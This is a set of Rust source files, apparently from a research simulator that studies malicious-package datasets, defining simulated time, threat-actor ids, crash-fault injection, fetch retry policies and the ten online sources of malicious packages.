    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct SimTime(u64);

impl SimTime {
    /// The simulation epoch, 2017-01-01 00:00.
    pub const EPOCH: SimTime = SimTime(0);

    /// Constructs a time `minutes` after the epoch.
    pub const fn from_minutes(minutes: u64) -> Self {
        SimTime(minutes)
    }

    /// Minutes since the epoch.
    pub const fn as_minutes(self) -> u64 {
        self.0
    }

    /// Constructs a time at 00:00 on the given calendar date.
    ///
    /// # Panics
    ///
    /// Panics if the date is before 2017-01-01 or not a valid calendar
    /// date (month outside 1..=12, day outside the month's length).
    pub fn from_ymd(year: i32, month: u32, day: u32) -> Self {
        assert!(year >= EPOCH_YEAR, "SimTime cannot predate {EPOCH_YEAR}");
        assert!((1..=12).contains(&month), "month out of range: {month}");
        let dim = days_in_month(year, month);
        assert!(
            (1..=dim).contains(&day),
            "day out of range for {year}-{month:02}: {day}"
        );
        let mut days: u64 = 0;
        for y in EPOCH_YEAR..year {
            days += days_in_year(y) as u64;
        }
        for m in 1..month {
            days += days_in_month(year, m) as u64;
        }
        days += (day - 1) as u64;
        SimTime(days * MINUTES_PER_DAY)
    }

    /// Decomposes into `(year, month, day)`.
    pub fn to_ymd(self) -> (i32, u32, u32) {
        let mut days = self.0 / MINUTES_PER_DAY;
        let mut year = EPOCH_YEAR;
        loop {
            let diy = days_in_year(year) as u64;
            if days < diy {
                break;
            }
            days -= diy;
            year += 1;
        }
        let mut month = 1;
        loop {
            let dim = days_in_month(year, month) as u64;
            if days < dim {
                break;
            }
            days -= dim;
            month += 1;
        }
        (year, month, days as u32 + 1)
    }

    /// Calendar year of this instant.
    pub fn year(self) -> i32 {
        self.to_ymd().0
    }

    /// Calendar month (1–12) of this instant.
    pub fn month(self) -> u32 {
        self.to_ymd().1
    }

    /// Quarter (1–4) of this instant, for timeline bucketing (Fig. 2).
    pub fn quarter(self) -> u32 {
        (self.month() - 1) / 3 + 1
    }

    /// Duration elapsed since `earlier`, saturating to zero if `earlier`
    /// is actually later.
    pub fn since(self, earlier: SimTime) -> SimDuration {
        SimDuration(self.0.saturating_sub(earlier.0))
    }

    /// The later of two instants.
    pub fn max(self, other: SimTime) -> SimTime {
        if self >= other {
            self
        } else {
            other
        }
    }

    /// The earlier of two instants.
    pub fn min(self, other: SimTime) -> SimTime {
        if self <= other {
            self
        } else {
            other
        }
    }
}

impl Add<SimDuration> for SimTime {
    type Output = SimTime;

    fn add(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 + rhs.as_minutes())
    }
}

impl AddAssign<SimDuration> for SimTime {
    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.as_minutes();
    }
}

impl Sub<SimTime> for SimTime {
    type Output = SimDuration;

    fn sub(self, rhs: SimTime) -> SimDuration {
        self.since(rhs)
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let (y, m, d) = self.to_ymd();
        let minute_of_day = self.0 % MINUTES_PER_DAY;
        write!(
            f,
            "{y:04}-{m:02}-{d:02} {:02}:{:02}",
            minute_of_day / 60,
            minute_of_day % 60
        )
    }
}

impl FromStr for SimTime {
    type Err = ParseError;

    /// Parses `YYYY-MM-DD`, as written in security reports.
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let parts: Vec<&str> = s.split('-').collect();
        if parts.len() != 3 {
            return Err(ParseError::new("date", s, "expected YYYY-MM-DD"));
        }
        let year: i32 = parts[0]
            .parse()
            .map_err(|_| ParseError::new("date", s, "bad year"))?;
        let month: u32 = parts[1]
            .parse()
            .map_err(|_| ParseError::new("date", s, "bad month"))?;
        let day: u32 = parts[2]
            .parse()
            .map_err(|_| ParseError::new("date", s, "bad day"))?;
        if year < EPOCH_YEAR {
            return Err(ParseError::new("date", s, "before simulation epoch"));
        }
        if !(1..=12).contains(&month) {
            return Err(ParseError::new("date", s, "month out of range"));
        }
        if !(1..=days_in_month(year, month)).contains(&day) {
            return Err(ParseError::new("date", s, "day out of range"));
        }
        Ok(SimTime::from_ymd(year, month, day))
    }
}

fn is_leap_year(year: i32) -> bool {
    (year % 4 == 0 && year % 100 != 0) || year % 400 == 0
}

fn days_in_year(year: i32) -> u32 {
    if is_leap_year(year) {
        366
    } else {
        365
    }
}

fn days_in_month(year: i32, month: u32) -> u32 {
    match month {
        1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
        4 | 6 | 9 | 11 => 30,
        2 if is_leap_year(year) => 29,
        2 => 28,
        _ => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn epoch_decomposes_to_2017_01_01() {
        assert_eq!(SimTime::EPOCH.to_ymd(), (2017, 1, 1));
    }

    #[test]
    fn ymd_round_trips_across_leap_years() {
        for &(y, m, d) in &[
            (2017, 1, 1),
            (2017, 12, 31),
            (2020, 2, 29),
            (2020, 3, 1),
            (2023, 8, 9),
            (2024, 12, 31),
            (2100, 2, 28), // 2100 is not a leap year
        ] {
            let t = SimTime::from_ymd(y, m, d);
            assert_eq!(t.to_ymd(), (y, m, d), "round-trip failed for {y}-{m}-{d}");
        }
    }

    #[test]
    #[should_panic(expected = "day out of range")]
    fn feb_29_in_non_leap_year_panics() {
        SimTime::from_ymd(2023, 2, 29);
    }

    #[test]
    #[should_panic(expected = "cannot predate")]
    fn pre_epoch_panics() {
        SimTime::from_ymd(2016, 12, 31);
    }

    #[test]
    fn parse_and_display() {
        let t: SimTime = "2023-08-09".parse().unwrap();
        assert_eq!(t.to_string(), "2023-08-09 00:00");
        assert!("2023-13-01".parse::<SimTime>().is_err());
        assert!("2023-02-30".parse::<SimTime>().is_err());
        assert!("not-a-date".parse::<SimTime>().is_err());
        assert!("2016-01-01".parse::<SimTime>().is_err());
    }

    #[test]
    fn duration_arithmetic() {
        let t0 = SimTime::from_ymd(2020, 1, 1);
        let t1 = t0 + SimDuration::days(31);
        assert_eq!(t1.to_ymd(), (2020, 2, 1));
        assert_eq!((t1 - t0).as_days(), 31);
        // Saturating: earlier.since(later) == 0.
        assert_eq!(t0.since(t1), SimDuration::ZERO);
    }

    #[test]
    fn duration_units() {
        let d = SimDuration::days(2) + SimDuration::hours(3) + SimDuration::minutes(4);
        assert_eq!(d.as_minutes(), 2 * 1440 + 3 * 60 + 4);
        assert_eq!(d.as_hours(), 51);
        assert_eq!(d.as_days(), 2);
        assert_eq!(d.to_string(), "2d03h04m");
    }

    #[test]
    fn quarter_bucketing() {
        assert_eq!(SimTime::from_ymd(2021, 1, 15).quarter(), 1);
        assert_eq!(SimTime::from_ymd(2021, 3, 31).quarter(), 1);
        assert_eq!(SimTime::from_ymd(2021, 4, 1).quarter(), 2);
        assert_eq!(SimTime::from_ymd(2021, 12, 31).quarter(), 4);
    }

    #[test]
    fn years_fraction_used_by_fig9() {
        let d = SimDuration::years(2);
        assert!((d.as_years_f64() - 2.0).abs() < 1e-9);
    }

    #[test]
    fn min_max() {
        let a = SimTime::from_ymd(2019, 5, 1);
        let b = SimTime::from_ymd(2020, 5, 1);
        assert_eq!(a.min(b), a);
        assert_eq!(a.max(b), b);
    }
}
