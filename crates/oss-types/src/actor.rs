//! Adversary identities.

use std::fmt;

/// An adversary (threat-actor) identity.
///
/// The simulator assigns every campaign to an actor; real corpora only
/// learn actors when a security report discloses a handle (e.g. the
/// `Lolip0p` author of the Colorslib/httpslib/libhttps packages), so the
/// analyses treat the actor as *ground truth* for validation and never use
/// it as an input feature.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ActorId(u32);

impl ActorId {
    /// Constructs an actor id from a raw index.
    pub const fn new(raw: u32) -> Self {
        ActorId(raw)
    }

    /// The raw index.
    pub const fn raw(self) -> u32 {
        self.0
    }

    /// A pseudonymous handle in the style reports use ("actor-0042").
    pub fn handle(self) -> String {
        format!("actor-{:04}", self.0)
    }
}

impl fmt::Display for ActorId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.handle())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn handle_formatting() {
        assert_eq!(ActorId::new(42).to_string(), "actor-0042");
        assert_eq!(ActorId::new(42).handle(), "actor-0042");
        assert_eq!(ActorId::new(12345).to_string(), "actor-12345");
    }

    #[test]
    fn ordering_follows_raw() {
        assert!(ActorId::new(1) < ActorId::new(2));
        assert_eq!(ActorId::new(7).raw(), 7);
    }
}
