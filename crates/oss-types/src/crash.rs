//! Deterministic crash-fault injection: named crash points and the plan
//! that decides which one aborts the run.
//!
//! Where [`FaultConfig`](crate::FaultConfig) models the *transport*
//! failing (a fetch that can be retried in place), a [`CrashPlan`]
//! models the *process* dying: the pipeline registers a named crash
//! point at every stage boundary, and an armed plan turns exactly one
//! occurrence of one point into a [`CrashSignal`]. The signal propagates
//! up like a real `SIGKILL` — no destructors run cleanup, no partial
//! state is repaired — so whatever the checkpoint layer had made
//! durable is exactly what recovery finds.
//!
//! Plans are deterministic three ways:
//!
//! * [`CrashPlan::at`] — a specific point and 1-based occurrence;
//! * [`CrashPlan::parse`] — the CLI's `--crash-at POINT[:N]` syntax;
//! * [`CrashPlan::seeded`] — a seeded draw over a registry of points,
//!   so a crash *matrix* can be generated from a single seed the same
//!   way `registry_sim::FaultPlan` derives fetch faults.

use std::collections::HashMap;
use std::fmt;
use std::sync::Mutex;

use crate::error::ParseError;

/// The simulated abort raised when an armed crash point fires.
///
/// Callers propagate it upward without any cleanup and either abandon
/// the in-memory run (tests) or exit the process (CLI).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CrashSignal {
    /// The crash point that fired, e.g. `"build/similar"`.
    pub point: String,
    /// Which occurrence of the point fired (1-based).
    pub occurrence: u32,
}

impl fmt::Display for CrashSignal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "simulated crash at {} (occurrence {})",
            self.point, self.occurrence
        )
    }
}

impl std::error::Error for CrashSignal {}

/// Decides whether a named crash point aborts the run.
///
/// At most one `(point, occurrence)` pair is armed; every other
/// [`fire`](CrashPlan::fire) call just counts. Occurrence counting uses
/// interior mutability so the plan can be threaded through `&self`
/// pipelines; counts are per-plan, so reusing one plan across two runs
/// would double-count — build a fresh plan per run.
#[derive(Debug)]
pub struct CrashPlan {
    armed: Option<(String, u32)>,
    seen: Mutex<HashMap<String, u32>>,
}

impl CrashPlan {
    /// A plan that never crashes; `fire` still counts occurrences.
    pub fn none() -> CrashPlan {
        CrashPlan {
            armed: None,
            seen: Mutex::new(HashMap::new()),
        }
    }

    /// Arms `point` to crash on its `occurrence`-th firing (1-based;
    /// 0 is treated as 1).
    pub fn at(point: &str, occurrence: u32) -> CrashPlan {
        CrashPlan {
            armed: Some((point.to_string(), occurrence.max(1))),
            seen: Mutex::new(HashMap::new()),
        }
    }

    /// Parses the CLI syntax `POINT` or `POINT:N` (N ≥ 1).
    ///
    /// # Errors
    ///
    /// Rejects an empty point name and a missing or unparsable `N`.
    pub fn parse(spec: &str) -> Result<CrashPlan, ParseError> {
        let (point, occurrence) = match spec.rsplit_once(':') {
            Some((point, n)) => {
                let n: u32 = n
                    .parse()
                    .map_err(|_| ParseError::new("crash point", spec, "occurrence is not a number"))?;
                if n == 0 {
                    return Err(ParseError::new("crash point", spec, "occurrence must be >= 1"));
                }
                (point, n)
            }
            None => (spec, 1),
        };
        if point.is_empty() {
            return Err(ParseError::new("crash point", spec, "empty point name"));
        }
        Ok(CrashPlan::at(point, occurrence))
    }

    /// Arms a deterministic draw over `points`: the same seed always
    /// picks the same point and the same occurrence in `1..=3`. This is
    /// the crash-matrix analogue of `registry_sim::FaultPlan` — one seed
    /// reproduces one simulated process death.
    pub fn seeded(seed: u64, points: &[&str]) -> CrashPlan {
        if points.is_empty() {
            return CrashPlan::none();
        }
        let pick = splitmix64(seed);
        let point = points[(pick % points.len() as u64) as usize];
        let occurrence = (splitmix64(pick) % 3 + 1) as u32;
        CrashPlan::at(point, occurrence)
    }

    /// The armed `(point, occurrence)` pair, if any.
    pub fn armed(&self) -> Option<(&str, u32)> {
        self.armed.as_ref().map(|(p, n)| (p.as_str(), *n))
    }

    /// Whether any point is armed.
    pub fn is_armed(&self) -> bool {
        self.armed.is_some()
    }

    /// Registers one occurrence of `point`; returns `Err` if and only
    /// if this occurrence is the armed one.
    ///
    /// # Errors
    ///
    /// A [`CrashSignal`] naming the point and occurrence that fired.
    pub fn fire(&self, point: &str) -> Result<(), CrashSignal> {
        let occurrence = {
            let mut seen = self.seen.lock().expect("crash plan lock poisoned");
            let count = seen.entry(point.to_string()).or_insert(0);
            *count += 1;
            *count
        };
        if let Some((armed_point, armed_occurrence)) = &self.armed {
            if armed_point == point && *armed_occurrence == occurrence {
                return Err(CrashSignal {
                    point: point.to_string(),
                    occurrence,
                });
            }
        }
        Ok(())
    }

    /// How many times `point` has fired through this plan so far.
    pub fn hits(&self, point: &str) -> u32 {
        self.seen
            .lock()
            .expect("crash plan lock poisoned")
            .get(point)
            .copied()
            .unwrap_or(0)
    }
}

impl Default for CrashPlan {
    fn default() -> Self {
        CrashPlan::none()
    }
}

/// SplitMix64 step — the same mixer `registry_sim::fault` uses, kept
/// local so oss-types stays dependency-free.
fn splitmix64(state: u64) -> u64 {
    let mut z = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

#[cfg(test)]
impl CrashPlan {
    /// Test helper: fire a point twice, returning the second result.
    fn fire_twice(&self, point: &str) -> Result<(), CrashSignal> {
        self.fire(point)?;
        self.fire(point)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unarmed_plan_never_fires() {
        let plan = CrashPlan::none();
        for _ in 0..10 {
            assert!(plan.fire("build/similar").is_ok());
        }
        assert_eq!(plan.hits("build/similar"), 10);
        assert!(!plan.is_armed());
    }

    #[test]
    fn armed_plan_fires_exactly_once_at_its_occurrence() {
        let plan = CrashPlan::at("ingest/apply", 3);
        assert!(plan.fire("ingest/apply").is_ok());
        assert!(plan.fire("build/nodes").is_ok(), "other points pass through");
        assert!(plan.fire("ingest/apply").is_ok());
        let signal = plan.fire("ingest/apply").unwrap_err();
        assert_eq!(signal.point, "ingest/apply");
        assert_eq!(signal.occurrence, 3);
        // Later occurrences pass again — the plan fires at most once.
        assert!(plan.fire("ingest/apply").is_ok());
    }

    #[test]
    fn parse_accepts_point_and_point_n() {
        assert_eq!(CrashPlan::parse("build/similar").unwrap().armed(), Some(("build/similar", 1)));
        assert_eq!(CrashPlan::parse("ingest/apply:4").unwrap().armed(), Some(("ingest/apply", 4)));
        assert!(CrashPlan::parse("").is_err());
        assert!(CrashPlan::parse(":2").is_err());
        assert!(CrashPlan::parse("p:0").is_err());
        assert!(CrashPlan::parse("p:x").is_err());
    }

    #[test]
    fn seeded_draw_is_deterministic_and_in_range() {
        let points = ["a", "b", "c"];
        let first = CrashPlan::seeded(42, &points);
        let second = CrashPlan::seeded(42, &points);
        assert_eq!(first.armed(), second.armed());
        let (point, occurrence) = first.armed().unwrap();
        assert!(points.contains(&point));
        assert!((1..=3).contains(&occurrence));
        assert!(!CrashPlan::seeded(42, &[]).is_armed());
        // Different seeds cover different points eventually.
        let drawn: std::collections::HashSet<_> = (0..64)
            .map(|s| CrashPlan::seeded(s, &points).armed().unwrap().0.to_string())
            .collect();
        assert_eq!(drawn.len(), points.len());
    }

    #[test]
    fn signal_display_names_point_and_occurrence() {
        let signal = CrashPlan::at("checkpoint/write", 2)
            .fire_twice("checkpoint/write")
            .unwrap_err();
        assert!(signal.to_string().contains("checkpoint/write"));
        assert!(signal.to_string().contains("occurrence 2"));
    }
}
