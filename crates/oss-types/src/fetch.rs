//! Fetch-layer vocabulary: failure categories, fault-rate configuration
//! and the deterministic retry/backoff policy of the collection pipeline.
//!
//! The paper's crawl (§II) runs against unreliable online sources:
//! advisory pages disappear, SNS feeds rate-limit, mirror lookups time
//! out, dumps arrive truncated. These types describe that fault model;
//! the `crawler` crate's transport layer draws from a seeded fault plan
//! (`registry_sim::fault`) and classifies each simulated fetch with a
//! [`FetchError`], while [`RetryPolicy`] bounds how hard the collector
//! fights back.

use std::fmt;

/// Why one fetch attempt failed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FetchError {
    /// A transient server/network error (HTTP 5xx, connection reset).
    Transient,
    /// The request timed out before any payload arrived.
    Timeout,
    /// A payload arrived but was cut short (checksum/length mismatch).
    Truncated,
    /// A payload arrived but failed integrity checks (garbled bytes).
    Corrupted,
    /// The document is permanently gone (HTTP 404/410).
    NotFound,
}

impl FetchError {
    /// Every failure category, in the order fault rates are laid out.
    pub const ALL: [FetchError; 5] = [
        FetchError::Transient,
        FetchError::Timeout,
        FetchError::Truncated,
        FetchError::Corrupted,
        FetchError::NotFound,
    ];

    /// Whether a retry can plausibly succeed. Everything except a
    /// permanent 404 is worth another attempt.
    pub fn is_transient(self) -> bool {
        !matches!(self, FetchError::NotFound)
    }

    /// Short machine-readable label.
    pub fn label(self) -> &'static str {
        match self {
            FetchError::Transient => "transient",
            FetchError::Timeout => "timeout",
            FetchError::Truncated => "truncated",
            FetchError::Corrupted => "corrupted",
            FetchError::NotFound => "not-found",
        }
    }
}

impl fmt::Display for FetchError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

impl std::error::Error for FetchError {}

/// Per-category fault rates of the unreliable transport, each in
/// `[0, 1]`. Rates are cumulative: a single uniform draw per attempt is
/// walked through the categories in [`FetchError::ALL`] order, so the
/// *total* fault probability is the (capped-at-1) sum of the rates.
///
/// Out-of-range values never panic the pipeline: the transport clamps
/// each rate into `[0, 1]` when sampling, which keeps "never panics at
/// any fault rate" a hard guarantee.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultConfig {
    /// Rate of transient server/network errors.
    pub transient_rate: f64,
    /// Rate of timeouts.
    pub timeout_rate: f64,
    /// Rate of truncated payloads.
    pub truncated_rate: f64,
    /// Rate of corrupted payloads.
    pub corrupted_rate: f64,
    /// Rate of permanent 404s.
    pub not_found_rate: f64,
}

impl FaultConfig {
    /// The fault-free transport: every fetch succeeds on the first try.
    pub const NONE: FaultConfig = FaultConfig {
        transient_rate: 0.0,
        timeout_rate: 0.0,
        truncated_rate: 0.0,
        corrupted_rate: 0.0,
        not_found_rate: 0.0,
    };

    /// A purely transient fault plan: every injected failure is
    /// retryable. This is the `--fault-rate` CLI model and the shape the
    /// recovery acceptance criterion is stated over.
    pub fn transient(rate: f64) -> FaultConfig {
        FaultConfig {
            transient_rate: rate,
            ..FaultConfig::NONE
        }
    }

    /// A mixed plan modelled on real crawl logs: mostly transient noise,
    /// some timeouts and mangled payloads, a sliver of permanent 404s.
    pub fn mixed(total_rate: f64) -> FaultConfig {
        FaultConfig {
            transient_rate: total_rate * 0.55,
            timeout_rate: total_rate * 0.15,
            truncated_rate: total_rate * 0.10,
            corrupted_rate: total_rate * 0.10,
            not_found_rate: total_rate * 0.10,
        }
    }

    /// The rate of `error` in this configuration.
    pub fn rate_of(&self, error: FetchError) -> f64 {
        match error {
            FetchError::Transient => self.transient_rate,
            FetchError::Timeout => self.timeout_rate,
            FetchError::Truncated => self.truncated_rate,
            FetchError::Corrupted => self.corrupted_rate,
            FetchError::NotFound => self.not_found_rate,
        }
    }

    /// Total fault probability per attempt, capped at 1.
    pub fn total_rate(&self) -> f64 {
        FetchError::ALL
            .iter()
            .map(|&e| clamp_rate(self.rate_of(e)))
            .sum::<f64>()
            .min(1.0)
    }

    /// Whether the transport is effectively fault-free.
    pub fn is_fault_free(&self) -> bool {
        self.total_rate() <= 0.0
    }
}

impl Default for FaultConfig {
    fn default() -> Self {
        FaultConfig::NONE
    }
}

/// Clamps one fault rate into `[0, 1]`, mapping NaN to 0.
pub fn clamp_rate(rate: f64) -> f64 {
    if rate.is_nan() {
        0.0
    } else {
        rate.clamp(0.0, 1.0)
    }
}

/// Bounded deterministic retry schedule: up to `max_retries` extra
/// attempts, waiting `base_backoff_ms * multiplier^retry` (capped at
/// `max_backoff_ms`) before each. All waits are *simulated* — the world
/// has no wall clock — so the schedule doubles as the health report's
/// wall-time accounting and stays bitwise-reproducible.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Retries after the first attempt (0 = fail fast).
    pub max_retries: u32,
    /// Simulated wait before the first retry, in milliseconds.
    pub base_backoff_ms: u64,
    /// Exponential growth factor between consecutive retries.
    pub multiplier: u32,
    /// Upper bound on any single wait, in milliseconds.
    pub max_backoff_ms: u64,
}

impl RetryPolicy {
    /// No retries at all.
    pub const NONE: RetryPolicy = RetryPolicy {
        max_retries: 0,
        base_backoff_ms: 0,
        multiplier: 1,
        max_backoff_ms: 0,
    };

    /// The default schedule: 3 retries at 100ms/200ms/400ms.
    pub const STANDARD: RetryPolicy = RetryPolicy {
        max_retries: 3,
        base_backoff_ms: 100,
        multiplier: 2,
        max_backoff_ms: 5_000,
    };

    /// A schedule with `max_retries` retries and the standard backoff.
    pub fn with_retries(max_retries: u32) -> RetryPolicy {
        RetryPolicy {
            max_retries,
            ..RetryPolicy::STANDARD
        }
    }

    /// Simulated wait before retry number `retry` (0-based), bounded by
    /// `max_backoff_ms` and saturating instead of overflowing.
    pub fn backoff_ms(&self, retry: u32) -> u64 {
        let mut wait = self.base_backoff_ms;
        for _ in 0..retry {
            if wait >= self.max_backoff_ms {
                break;
            }
            wait = wait.saturating_mul(u64::from(self.multiplier.max(1)));
        }
        wait.min(self.max_backoff_ms)
    }
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy::STANDARD
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_not_found_is_permanent() {
        for e in FetchError::ALL {
            assert_eq!(e.is_transient(), e != FetchError::NotFound);
        }
    }

    #[test]
    fn labels_are_unique() {
        let mut labels: Vec<_> = FetchError::ALL.iter().map(|e| e.label()).collect();
        labels.sort_unstable();
        labels.dedup();
        assert_eq!(labels.len(), FetchError::ALL.len());
    }

    #[test]
    fn total_rate_caps_and_clamps() {
        assert_eq!(FaultConfig::NONE.total_rate(), 0.0);
        assert!(FaultConfig::NONE.is_fault_free());
        assert!((FaultConfig::transient(0.3).total_rate() - 0.3).abs() < 1e-12);
        let silly = FaultConfig {
            transient_rate: 7.0,
            timeout_rate: f64::NAN,
            truncated_rate: -3.0,
            corrupted_rate: f64::INFINITY,
            not_found_rate: 0.5,
        };
        assert_eq!(silly.total_rate(), 1.0);
        assert!(!silly.is_fault_free());
    }

    #[test]
    fn mixed_plan_sums_to_its_total() {
        let cfg = FaultConfig::mixed(0.4);
        assert!((cfg.total_rate() - 0.4).abs() < 1e-12);
        assert!(cfg.not_found_rate > 0.0);
    }

    #[test]
    fn backoff_grows_exponentially_then_caps() {
        let p = RetryPolicy::STANDARD;
        assert_eq!(p.backoff_ms(0), 100);
        assert_eq!(p.backoff_ms(1), 200);
        assert_eq!(p.backoff_ms(2), 400);
        assert_eq!(p.backoff_ms(20), 5_000, "cap applies");
        assert_eq!(RetryPolicy::NONE.backoff_ms(0), 0);
        // Saturation: absurd schedules never overflow.
        let huge = RetryPolicy {
            max_retries: u32::MAX,
            base_backoff_ms: u64::MAX / 2,
            multiplier: u32::MAX,
            max_backoff_ms: u64::MAX,
        };
        let _ = huge.backoff_ms(u32::MAX);
    }
}
