//! The ten online sources malicious packages are collected from.
//!
//! Table I of the paper groups sources into *academia* (published research
//! datasets), *industry* (commercial security vendors) and *individual*
//! (blogs / social-network accounts). Each source also has a publication
//! style — dataset dumps vs. security-report webpages vs. SNS feeds —
//! which determines which collection path (`crawler`) handles it.

use crate::error::ParseError;
use std::fmt;
use std::str::FromStr;

/// Category of an online source (Table I, left column).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SourceCategory {
    /// Research datasets published alongside papers.
    Academia,
    /// Commercial security vendors and advisory databases.
    Industry,
    /// Individual blogs and social-network accounts.
    Individual,
}

impl fmt::Display for SourceCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            SourceCategory::Academia => "Academia",
            SourceCategory::Industry => "Industry",
            SourceCategory::Individual => "Individual",
        })
    }
}

/// How a source publishes its findings, which selects the collection path.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PublicationStyle {
    /// A downloadable dataset of package archives (Maloss, Mal-PyPI,
    /// DataDog) — packages are directly *available*.
    DatasetDump,
    /// Security-report webpages naming packages but not shipping them
    /// (Snyk.io, Phylum, Socket, …) — only names/versions are available.
    ReportPages,
    /// Short SNS posts naming packages (the `@sscblog`-style accounts).
    SnsFeed,
}

/// One of the ten online sources of Table I.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SourceId {
    /// Backstabber's Knife Collection (Ohm et al., 2020).
    BackstabberKnife,
    /// The Maloss sample set (Duan et al., 2020).
    Maloss,
    /// The Mal-PyPI dataset (Guo et al., 2023).
    MalPyPI,
    /// GitHub Security Advisory database.
    GitHubAdvisory,
    /// Snyk.io vulnerability database and blog.
    SnykIo,
    /// Tianwen software-supply-chain platform (QiAnXin).
    Tianwen,
    /// DataDog's malicious-software-packages dataset (GuardDog).
    DataDog,
    /// Phylum research blog.
    Phylum,
    /// Socket.dev advisories.
    Socket,
    /// Aggregated individual blogs and SNS accounts.
    IndividualBlogs,
}

impl SourceId {
    /// All ten sources, in Table I order.
    pub const ALL: [SourceId; 10] = [
        SourceId::BackstabberKnife,
        SourceId::Maloss,
        SourceId::MalPyPI,
        SourceId::GitHubAdvisory,
        SourceId::SnykIo,
        SourceId::Tianwen,
        SourceId::DataDog,
        SourceId::Phylum,
        SourceId::Socket,
        SourceId::IndividualBlogs,
    ];

    /// Full display name as used in Table I.
    pub fn display_name(self) -> &'static str {
        match self {
            SourceId::BackstabberKnife => "Backstabber-Knife",
            SourceId::Maloss => "Maloss",
            SourceId::MalPyPI => "Mal-PyPI",
            SourceId::GitHubAdvisory => "GitHub Advisory",
            SourceId::SnykIo => "Snyk.io",
            SourceId::Tianwen => "Tianwen",
            SourceId::DataDog => "DataDog",
            SourceId::Phylum => "Phylum",
            SourceId::Socket => "Socket",
            SourceId::IndividualBlogs => "SNS/Blogs",
        }
    }

    /// Abbreviation used in the Table IV overlap-matrix header.
    pub fn abbrev(self) -> &'static str {
        match self {
            SourceId::BackstabberKnife => "B.K",
            SourceId::Maloss => "M.",
            SourceId::MalPyPI => "M.D",
            SourceId::GitHubAdvisory => "G.A",
            SourceId::SnykIo => "S.i",
            SourceId::Tianwen => "T.",
            SourceId::DataDog => "D.D",
            SourceId::Phylum => "P.",
            SourceId::Socket => "So.",
            SourceId::IndividualBlogs => "I.B",
        }
    }

    /// Machine-readable slug.
    pub fn slug(self) -> &'static str {
        match self {
            SourceId::BackstabberKnife => "backstabber-knife",
            SourceId::Maloss => "maloss",
            SourceId::MalPyPI => "mal-pypi",
            SourceId::GitHubAdvisory => "github-advisory",
            SourceId::SnykIo => "snyk-io",
            SourceId::Tianwen => "tianwen",
            SourceId::DataDog => "datadog",
            SourceId::Phylum => "phylum",
            SourceId::Socket => "socket",
            SourceId::IndividualBlogs => "individual-blogs",
        }
    }

    /// Source category (Table I grouping).
    pub fn category(self) -> SourceCategory {
        match self {
            SourceId::BackstabberKnife | SourceId::Maloss | SourceId::MalPyPI => {
                SourceCategory::Academia
            }
            SourceId::IndividualBlogs => SourceCategory::Individual,
            _ => SourceCategory::Industry,
        }
    }

    /// How the source publishes findings.
    pub fn publication_style(self) -> PublicationStyle {
        match self {
            SourceId::Maloss | SourceId::MalPyPI | SourceId::DataDog => {
                PublicationStyle::DatasetDump
            }
            SourceId::IndividualBlogs => PublicationStyle::SnsFeed,
            // Backstabber-Knife publishes a package *list*; the archive
            // itself is access-gated, so it behaves like report pages.
            _ => PublicationStyle::ReportPages,
        }
    }

    /// Update cadence in days between dataset refreshes (Table V);
    /// `None` means the source never updates after its initial release.
    pub fn update_interval_days(self) -> Option<u64> {
        match self {
            SourceId::BackstabberKnife => None,
            SourceId::Maloss => Some(90),
            SourceId::MalPyPI => None,
            SourceId::DataDog => None,
            SourceId::GitHubAdvisory => Some(180),
            SourceId::SnykIo => Some(60),
            SourceId::Tianwen => Some(60),
            SourceId::Phylum => Some(30),
            SourceId::Socket => Some(30),
            SourceId::IndividualBlogs => Some(120),
        }
    }

    /// Update-frequency label printed in Table V.
    pub fn update_frequency_label(self) -> &'static str {
        match self.update_interval_days() {
            None => "Never update",
            Some(30) => "one per 1 month",
            Some(60) => "one per 2 month",
            Some(90) => "one per 3 month",
            Some(120) => "one per 4 month",
            Some(180) => "one per 6 month",
            Some(_) => "irregular",
        }
    }
}

impl fmt::Display for SourceId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.display_name())
    }
}

impl FromStr for SourceId {
    type Err = ParseError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let lower = s.to_ascii_lowercase();
        SourceId::ALL
            .into_iter()
            .find(|src| src.slug() == lower)
            .ok_or_else(|| ParseError::new("source", s, "unknown source"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ten_distinct_sources() {
        let mut slugs: Vec<_> = SourceId::ALL.iter().map(|s| s.slug()).collect();
        slugs.sort_unstable();
        slugs.dedup();
        assert_eq!(slugs.len(), 10);
    }

    #[test]
